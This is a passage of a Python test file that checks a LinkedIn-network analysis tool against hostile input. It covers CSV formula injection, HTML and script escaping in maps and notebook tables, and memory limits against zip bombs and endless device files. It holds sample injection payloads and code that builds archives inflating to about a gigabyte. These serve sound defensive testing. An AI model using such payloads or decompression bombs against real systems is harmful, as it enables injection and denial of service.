    for text in (stream.getvalue(), write_csv(df, tmp_path / "t.csv").read_text(encoding="utf-8")):
        assert "\r" not in text
        rows = assert_formula_safe(text)
        assert [r[0] for r in rows] == ["name", "x\n=1+1", "y\n@SUM(1)", "z"]


# --------------------------------------------------------------------------------------------
# property: whatever text a contact types, the views show it as text and the files keep it

_HOSTILE_TEXT = st.lists(st.one_of(
    st.sampled_from([*PAYLOADS[:16], "<", ">", "&", "&amp;", "'", '"', "`", "$", "\\", "\u2028", "\u202e", "\ufeff",
                     "href", "</script", "<!--", "]]>", "=", "+", "-", "@", "\t", "\r", "\n", "\x00", "\x1b", "\ufffe"]),
    st.text(max_size=6)), max_size=8).map("".join)


@settings(max_examples=25, deadline=None, derandomize=True,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(names=st.lists(_HOSTILE_TEXT, min_size=2, max_size=5), company=_HOSTILE_TEXT)
def test_any_text_is_shown_as_text_and_kept_in_files(tmp_path, names, company):
    from netanalysis.export._values import clean_text as _clean_text
    from netanalysis.safefiles import formula_safe

    G = nx.Graph(ego="me")
    G.add_node("me", name="Me", ego=True)
    for i, name in enumerate(names):
        G.add_node(f"k{i}", name=name, company=company, position=name[::-1])
        G.add_edge("me", f"k{i}", met="in_person", evidence="export", sources=["export"], strength=0.5)
    G.add_edge("k0", "k1", met="unknown", evidence="export", sources=["export"], strength=0.5)
    page = na.network_map(G, title=names[0])
    check_page(page)
    labels = [_plain(n["label"]) for n in map_json(page)["nodes"]]
    for name in names:
        assert _plain(name) in labels or not _plain(name)
    na.to_gexf(G, tmp_path / "g.gexf")
    H = nx.read_gexf(tmp_path / "g.gexf")
    for i, name in enumerate(names):
        assert H.nodes[f"k{i}"]["name"] == _clean_text(name)  # all but the characters XML cannot hold
    na.to_csv(G, tmp_path / "csv")
    rows = assert_formula_safe(tmp_path / "csv" / "nodes.csv")
    got = {r[0]: r[1] for r in rows[1:]}
    for i, name in enumerate(names):
        # the text (characters XML cannot hold left out: one cleaning for every writer), made formula-safe
        assert got[f"k{i}"] == formula_safe(_clean_text(name))
    for fmt in ("csv",):
        stream = io.StringIO()
        from netanalysis.cli.common import emit_table

        emit_table(pd.DataFrame({"name": names, "company": company}), fmt, stream=stream)
        assert_formula_safe(stream.getvalue())


def test_report_into_an_impossible_folder_is_one_clear_line(scratch, capsys):
    _, out = scratch
    out.mkdir()
    (out / "Connections.csv").write_text(_GOOD, encoding="utf-8")
    (out / "taken").write_text("a file")
    code, _, err = _run(["report", out / "Connections.csv", "--out", out / "taken" / "rep"], capsys)
    assert code == 2 and err.startswith("netanalysis: error: ")


# --------------------------------------------------------------------------------------------
# notebooks' HTML output and pyvis


def test_dataframe_html_escapes_payloads(world):
    # Notebooks show tables through pandas' _repr_html_; pin that it escapes (it does by default).
    df = na.detect_communities(world["G"], seed=0)
    frames = [pd.DataFrame({"name": PAYLOADS, "n": range(N)}), df]
    for frame in frames:
        page = frame._repr_html_()
        parser = _Page()
        parser.feed(page)
        assert {t for t, _ in parser.tags} <= {"div", "style", "table", "thead", "tbody", "tr", "th", "td", "p"}
        assert not any(name.startswith("on") for _, attrs in parser.tags for name in attrs)
    assert "&lt;script&gt;alert(&quot;s1&quot;)&lt;/script&gt;" in frames[0]._repr_html_() or \
        "&lt;script&gt;alert(\"s1\")&lt;/script&gt;" in frames[0]._repr_html_()


def test_notebook_map_cell_is_escaped(world):
    cell = na.display_map(world["G"]).data
    text = check_page(f'<meta http-equiv="Content-Security-Policy" content="default-src \'none\'; '
                      f'connect-src \'none\'; script-src \'none\'">{cell}')
    assert CONTACT_NAMES[0] not in text  # names live in the map's data, not in the page text
    assert CONTACT_NAMES[0] in {_plain(n["label"]) for n in map_json(cell)["nodes"]}


def _dollar_graph():
    G = nx.Graph(ego="me")
    G.add_node("me", name="Me", ego=True)
    names = ["$\\frac{", "$$$ Sales $$$", "a$b", "^_^", "$x^{2$", "\\$", "$$", "Bo"]
    for i, name in enumerate(names):
        G.add_node(f"p{i}", name=name, company=["$\\sqrt{", "Acme"][i % 2], position="$$ Eng $$")
        G.add_edge("me", f"p{i}", met="in_person" if i % 2 else "online", evidence="export", sources=["export"])
    G.add_edges_from([("p0", "p1"), ("p1", "p2"), ("p0", "p2"), ("p3", "p4"), ("p4", "p5"), ("p3", "p5"),
                      ("p6", "p7")], evidence="export", met="unknown", sources=["export"])
    na.tie_strength(G)
    return G, names


def test_dollar_signs_are_text_in_figures():
    # matplotlib reads $…$ as mathtext: "$$$ Sales $$$" used to stop the figure with a ParseException.
    G, names = _dollar_graph()
    fig = na.plot_network(G, seed=0)
    fig.savefig(io.BytesIO(), format="png")
    drawn = [t._preprocess_math(t.get_text()) for t in fig.axes[0].texts]
    assert sorted(text for text, math in drawn if not math) == sorted(names)
    legend = [t._preprocess_math(t.get_text()) for t in fig.axes[0].get_legend().get_texts()]
    assert all(not math for _, math in legend) and any("$\\sqrt{" in text for text, _ in legend)


def test_dollar_signs_are_text_in_brokerage_figures_and_the_report():
    G, _ = _dollar_graph()
    for fig in (na.plot_structural_holes(na.structural_holes(G)), na.plot_introductions(na.introductions(G, "me"))):
        fig.savefig(io.BytesIO(), format="png")
    from netanalysis.report import build_report

    build_report(G)


def test_pyvis_writes_nothing_into_the_working_directory(world, scratch):
    # pyvis copies a lib/ folder into the working directory for cdn_resources="local"; to_pyvis
    # uses "in_line", and the scratch fixture checks the working directory stays empty.
    _, out = scratch
    net = na.to_pyvis(world["G"])
    net.generate_html()
    out.mkdir()
    net.write_html(str(out / "pyvis.html"))
    assert len(net.nodes) == world["G"].number_of_nodes()
    assert sorted(p.name for p in out.iterdir()) == ["pyvis.html"]


# --------------------------------------------------------------------------------------------
# Issue 18, item 5: memory bounded by design. Each hostile input is read by a child process whose
# peak resident memory (ru_maxrss of its children, measured by a fresh wrapper) and time are
# checked against SECURITY.md's promise: < 1.5 GB and < 2 minutes for anything within the limits.

PEAK_LIMIT_KB = 1_500_000
_MEASURE = ("import resource, subprocess, sys, time; t = time.perf_counter(); "
            "r = subprocess.run(sys.argv[1:], capture_output=True, text=True); "
            "print(r.returncode, resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss, "
            "time.perf_counter() - t); print(r.stdout[-2000:]); print(r.stderr, file=sys.stderr)")
_CONNECTIONS_HEADER = "First Name,Last Name,URL,Email Address,Company,Position,Connected On\n"
_OWNER_ROW = "Ana,Lind,https://www.linkedin.com/in/ana-lind,,Fjordline,Engineer,03 Jun 2024\n"
_MESSAGES_HEADER = "CONVERSATION ID,FROM,SENDER PROFILE URL,TO,RECIPIENT PROFILE URLS,DATE,CONTENT\n"


def _measured(*args, cwd=None):
    """(exit status, peak KB, seconds, stdout, stderr) of ``netanalysis ARGS`` in a child process."""
    import subprocess
    import sys

    done = subprocess.run([sys.executable, "-c", _MEASURE, sys.executable, "-m", "netanalysis", *map(str, args)],
                          capture_output=True, text=True, timeout=300, cwd=cwd)
    status, peak, seconds = done.stdout.split("\n", 1)[0].split()
    return int(status), int(peak), float(seconds), done.stdout.split("\n", 1)[1], done.stderr


def _zip(path, members):
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in members:
            archive.writestr(name, text)
    return path


def _one_line_error(stderr):
    lines = stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("netanalysis: error: "), stderr
    return lines[0]


@pytest.mark.parametrize("command", [["inspect", "/dev/zero"], ["inspect", "{export}", "--ties", "/dev/urandom"]])
def test_endless_files_are_refused_in_one_line(tmp_path, command):
    export = _zip(tmp_path / "export.zip", [("Connections.csv", _CONNECTIONS_HEADER + _OWNER_ROW)])
    status, peak, seconds, _out, err = _measured(*(c.format(export=export) for c in command))
    assert status == 2 and "is a device, not a file" in _one_line_error(err)
    assert peak < 300_000 and seconds < 30


def test_a_one_line_connections_file_near_a_gigabyte_is_refused_cheaply(tmp_path):
    # The case: a ~1 MB archive whose Connections.csv inflates to just under 1 GiB (one line).
    path = tmp_path / "export.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive, \
            archive.open("Connections.csv", "w", force_zip64=True) as member:
        member.write((_CONNECTIONS_HEADER + _OWNER_ROW).encode())
        block = b"x" * (1 << 24)
        for _ in range(63):
            member.write(block)
    status, peak, seconds, _out, err = _measured("inspect", path)
    assert status == 2 and _one_line_error(err) == (
        "netanalysis: error: export.zip: Connections.csv would unpack to 1008 MiB, more than the 96 MiB "
        "limit for one file; it is not a LinkedIn export file.")
    assert peak < 300_000 and seconds < 30


def test_a_gigabyte_of_messages_is_refused_before_it_is_unpacked(tmp_path):
    row = (b"c,Bo,https://www.linkedin.com/in/bo,Ana,https://www.linkedin.com/in/ana-lind,"
           b"2024-06-04 10:00:00 UTC,hi\n")
    path = tmp_path / "export.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("Connections.csv", _CONNECTIONS_HEADER + _OWNER_ROW)
        with archive.open("messages.csv", "w", force_zip64=True) as member:
            member.write(_MESSAGES_HEADER.encode())
            block = row * ((8 << 20) // len(row))
            for _ in range(120):  # 960 MiB
                member.write(block)
    status, peak, seconds, _out, err = _measured("inspect", path)
    assert status == 2 and "messages.csv would unpack to 960 MiB, more than the 96 MiB limit" in _one_line_error(err)
    assert peak < 300_000 and seconds < 30


def test_an_unclosed_quote_over_millions_of_lines_is_bounded(tmp_path):
    opened = ("c,Bo,https://www.linkedin.com/in/bo,Ana,https://www.linkedin.com/in/ana-lind,"
              '2024-06-04 10:00:00 UTC,"')
    path = _zip(tmp_path / "export.zip", [("Connections.csv", _CONNECTIONS_HEADER + _OWNER_ROW),
                                          ("messages.csv", _MESSAGES_HEADER + opened + "word, \n" * (12 << 20))])
    status, peak, seconds, _out, err = _measured("inspect", path)
    assert status == 2 and "more than 1,000,000 rows" in _one_line_error(err)
    assert peak < PEAK_LIMIT_KB and seconds < 120


@pytest.mark.slow
def test_the_largest_messages_within_the_limits_stay_under_the_promise(tmp_path):
    # The worst text within the limits: 128 MiB of messages (96 + 32 MiB parts), one emoji per row
    # (so Python holds every character in four bytes), through the whole report.
    row = ("2-abc{i},Bo Berg,https://www.linkedin.com/in/bo-berg{j},Ana Lind,https://www.linkedin.com/in/ana-lind,"
           "2024-06-04 10:{m:02d}:00 UTC,Hello \U0001f331 how are you doing this week {i}\n")
    rows, size, i = [_MESSAGES_HEADER], len(_MESSAGES_HEADER), 0
    budget = na.io.MAX_READ_BYTES - (1 << 20)
    while size < budget:
        line = row.format(i=i, j=i % 5000, m=i % 60)
        rows.append(line)
        size += len(line.encode())
        i += 1
    text = "".join(rows)
    cut = text.encode()[:na.io.MAX_FILE_BYTES - 100].decode(errors="ignore")
    cut = cut[:cut.rfind("\n") + 1]
    rest = _MESSAGES_HEADER + text[len(cut):]
    path = _zip(tmp_path / "export.zip", [("Connections.csv", _CONNECTIONS_HEADER + _OWNER_ROW),
                                          ("messages.csv", cut), ("messages_2.csv", rest)])
    status, peak, seconds, _out, err = _measured("report", path, "--out", tmp_path / "report", "--no-gexf",
                                                cwd=tmp_path)
    assert status == 0, err
    assert peak < PEAK_LIMIT_KB and seconds < 120
